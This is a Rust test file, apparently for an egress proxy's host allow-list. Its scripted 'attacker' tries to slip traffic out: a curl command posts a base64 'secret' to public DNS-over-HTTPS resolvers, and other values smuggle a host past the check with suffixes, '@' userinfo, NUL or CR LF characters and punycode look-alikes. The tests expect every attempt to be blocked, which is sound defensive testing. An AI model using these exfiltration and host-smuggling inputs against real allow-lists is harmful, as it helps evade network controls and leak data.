//! Names that look like an allowed one.

use super::world::World;
use crate::lab::Attacker;

as_each_user! {
    row_11_dns_over_https_is_a_host_like_any_other,
    row_14_only_a_true_match_passes,
    row_14_no_control_character_gets_into_a_name,
}

in_containers! {
    row_11_dns_over_https_is_a_host_like_any_other,
    row_14_only_a_true_match_passes,
    row_14_no_control_character_gets_into_a_name,
}

async fn row_11_dns_over_https_is_a_host_like_any_other(attacker: Attacker) {
    let world = World::new().await;
    let script = r#"
for host in ["dns.google", "cloudflare-dns.com", "1.1.1.1", "[2606:4700:4700::1111]"]:
    say(host, curl("--header", "content-type: application/dns-message", "--data-binary", "c2VjcmV0", f"https://{host}/dns-query"))
"#;
    let hosts = ["dns.google", "cloudflare-dns.com", "1.1.1.1", "[2606:4700:4700::1111]"];
    world.attack(attacker, script).await.told.check(&hosts.map(|host| (host, "000 403")));
    world.denied.check_untouched();
    assert!(world.names.asked().is_empty());
}

async fn row_14_only_a_true_match_passes(attacker: Attacker) {
    let mut world = World::new().await;
    world.allowed = vec!["allowed.test", "*.wide.test"];
    world.names.set("a.wide.test", 443, vec![vec![world.https.address]]);
    let authorities = [
        ("allowed.test:443", "200"),
        ("ALLOWED.test:443", "200"),
        ("allowed.test.:443", "200"),
        ("a.wide.test:443", "200"),
        ("allowed.test.evil.test:443", "403"),
        ("evilallowed.test:443", "403"),
        ("a.allowed.test:443", "403"),
        ("wide.test:443", "403"),
        ("evilwide.test:443", "403"),
        ("a.wide.test.evil.test:443", "403"),
        ("xn--llowed-2nf.test:443", "403"),
        ("allowed.test..:443", "400"),
        ("allowed.test%00.evil.test:443", "400"),
        ("user@allowed.test:443", "400"),
        ("allowed.test:443@evil.test", "400"),
        ("allowed.test:443@evil.test:443", "400"),
        ("*.wide.test:443", "400"),
    ];
    let names: Vec<&str> = authorities.iter().map(|(authority, _)| *authority).collect();
    let script = format!("for authority in {names:?}:\n    say(authority, tunnel(authority))");
    world.attack(attacker, &script).await.told.check(&authorities);
    assert_eq!(world.names.asked(), ["allowed.test", "allowed.test", "allowed.test", "a.wide.test"]);
    world.denied.check_untouched();
}

async fn row_14_no_control_character_gets_into_a_name(attacker: Attacker) {
    let world = World::new().await;
    let script = r#"
for what, between in [("NUL", "\0"), ("CR LF", "\r\n"), ("CR", "\r"), ("LF", "\n"), ("tab", "\t"), ("space", " "), ("é", "é")]:
    for host in [f"allowed.test{between}.evil.test", f"evil.test{between}allowed.test"]:
        say(what, f"{tunnel(host + ':443')} {get(host)}")
"#;
    let whats = ["NUL", "CR LF", "CR", "LF", "tab", "space", "é"];
    let expected: Vec<_> = whats.iter().flat_map(|what| [(*what, "400 400"); 2]).collect();
    world.attack(attacker, script).await.told.check(&expected);
    assert!(world.names.asked().is_empty());
    world.denied.check_untouched();
}
